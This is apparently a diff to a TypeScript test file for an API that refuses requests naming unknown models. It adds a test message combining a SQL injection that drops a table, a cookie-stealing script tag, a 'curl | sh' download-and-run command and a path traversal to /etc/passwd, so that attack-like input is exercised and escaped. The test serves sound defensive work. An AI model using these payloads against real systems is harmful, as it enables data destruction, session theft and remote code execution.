@@ -144,11 +144,20 @@ export const streamedUnknownModel: RefusedCase = {
   change: (body) => ({ ...body, model: noSuchModel, stream: true }),
 };
 
+/** A question that people ask of models, and that a firewall takes for an attack. */
+const attackLike =
+  "Is `SELECT * FROM users WHERE id = 1 OR 1=1; DROP TABLE users; --` or <script>alert(document.cookie)</script> worse than `curl -s http://example.com/x.sh | sh` and ../../etc/passwd?";
+
 /** The same of a name that few expect: what is written into a header, an address or a pattern has to be escaped. */
 export const streamedOddModel: RefusedCase = {
   ...streamedUnknownModel,
-  says: "that asks a model with quotes, an umlaut and a bracket in its name for a stream",
-  change: (body) => ({ ...body, model: `${noSuchModel} "ü" (<'`, stream: true }),
+  says: "about SQL, scripts and shells that asks a model with quotes, an umlaut and a bracket in its name for a stream",
+  change: (body) => ({
+    ...body,
+    model: `${noSuchModel} "ü" (<'`,
+    messages: [{ role: "user", content: attackLike }],
+    stream: true,
+  }),
 };
 
 const nesting = 500;
